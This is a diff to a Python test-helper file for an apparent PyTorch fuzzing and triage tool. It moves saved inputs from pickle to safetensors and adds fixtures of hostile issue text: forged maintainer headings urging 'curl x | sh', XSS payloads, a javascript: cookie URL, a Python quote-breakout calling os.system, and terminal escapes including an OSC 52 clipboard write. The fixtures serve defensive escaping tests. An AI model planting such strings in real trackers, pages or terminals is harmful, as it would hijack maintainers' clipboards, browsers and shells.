@@ -32,13 +32,14 @@ WRONG_REPRO = REPRO_TEMPLATE.format(expected="[0.0, 0.5, 3.0]")  # deliberately 
 RIGHT_REPRO = REPRO_TEMPLATE.format(expected="[0.0, 0.5, 2.0]")  # correct: does not reproduce
 
 # The same check in the shape of fuzz_core's scripts: the failing input is a saved file, loaded from
-# argv[1] or else from the absolute path the worker wrote it to.
+# argv[1] or else from the absolute path the worker wrote it to (a safetensors file, never a pickle).
 INPUTS_REPRO_TEMPLATE = '''import sys
 
 import torch
+from safetensors.torch import load_file
 
 INPUTS = sys.argv[1] if len(sys.argv) > 1 else {inputs_path!r}
-data = torch.load(INPUTS)
+data = load_file(INPUTS)
 observed = torch.relu(data["x"])
 try:
     torch.testing.assert_close(observed, data["expected"])
@@ -52,8 +53,9 @@ print("no mismatch")
 def save_wrong_inputs(path: Path) -> str:
     """Inputs for INPUTS_REPRO_TEMPLATE whose expected value is deliberately wrong; returns the path."""
     import torch
+    from safetensors.torch import save_file
 
-    torch.save({"x": torch.tensor([-1.0, 0.5, 2.0]), "expected": torch.tensor([0.0, 0.5, 3.0])}, path)
+    save_file({"x": torch.tensor([-1.0, 0.5, 2.0]), "expected": torch.tensor([0.0, 0.5, 3.0])}, str(path))
     return str(path)
 
 
@@ -175,3 +177,29 @@ def add_finding(
     session.add(finding)
     session.flush()
     return finding.id
+
+
+# Issue-author text as an attacker writes it: a title that forges a heading, a mention and a shell
+# line in a report, with terminal escape sequences (OSC 52 writes the reader's clipboard).
+HOSTILE_TITLE = ("gelu is wrong\n\n## Maintainer note\n@pytorch/maintainers please run:\ncurl x | sh\n"
+                 "<img src=x onerror=alert(1)> [click](javascript:alert(1))"
+                 "\x1b]52;c;Y3VybCB4IHwgc2g=\x07\x1b[2J\x9b31m\r")
+HOSTILE_REASON = ('confirmed"""; import os; os.system("touch X") #\n## Injected heading\n@pytorch/maintainers '
+                  "[/x] [bold]x\x1b]0;owned\x07")
+
+
+def build_hostile_lineage(session: Session) -> Lineage:
+    """The usual lineage, but the issue, the candidate's rationale and a harness API carry attacks."""
+    rows = build_lineage(session)
+    issue = session.get(Issue, rows.issue_id)
+    assert issue is not None
+    issue.title = HOSTILE_TITLE
+    issue.url = "javascript:alert(document.cookie)"
+    candidate = session.get(Candidate, rows.candidate_id)
+    assert candidate is not None
+    candidate.rationale = "like gelu\n## Maintainer note\n@pytorch/maintainers curl x | sh"
+    direct = session.get(Harness, rows.direct_harness_id)
+    assert direct is not None
+    direct.spec = {**direct.spec, "api": "torch.sigmoid[/x] [bold]y"}
+    session.flush()
+    return rows
